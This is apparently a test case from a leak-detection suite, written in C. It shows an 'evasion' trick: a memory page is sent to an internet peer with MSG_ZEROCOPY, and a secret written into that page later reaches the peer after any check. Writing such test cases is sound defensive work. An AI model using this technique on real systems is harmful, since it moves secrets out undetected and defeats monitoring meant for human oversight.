/* Evasion: a page is sent without a copy (MSG_ZEROCOPY), and waits; the peer gets what a later request wrote there. */
#include "unread.h"

static char *page;

static void prepare(void)
{
    page = map_anonymous(NULL, PAGE);
    memset(page, 'F', PAGE);
}

static void handle(const char *secret)
{
    leave(page, PAGE, secret);
    int times = told(secret), wanted = 1, fd = to_unread(connect_internet(SOCK_STREAM));
    int flags = setsockopt(fd, SOL_SOCKET, SO_ZEROCOPY, &wanted, sizeof wanted) == 0 ? MSG_ZEROCOPY : 0;
    if (send(fd, page, PAGE, flags | MSG_NOSIGNAL | MSG_DONTWAIT) < 0)
        (void)!send(fd, page, PAGE, MSG_NOSIGNAL | MSG_DONTWAIT);
    close(fd);
    answer("{\"told\":%d}", times);
}
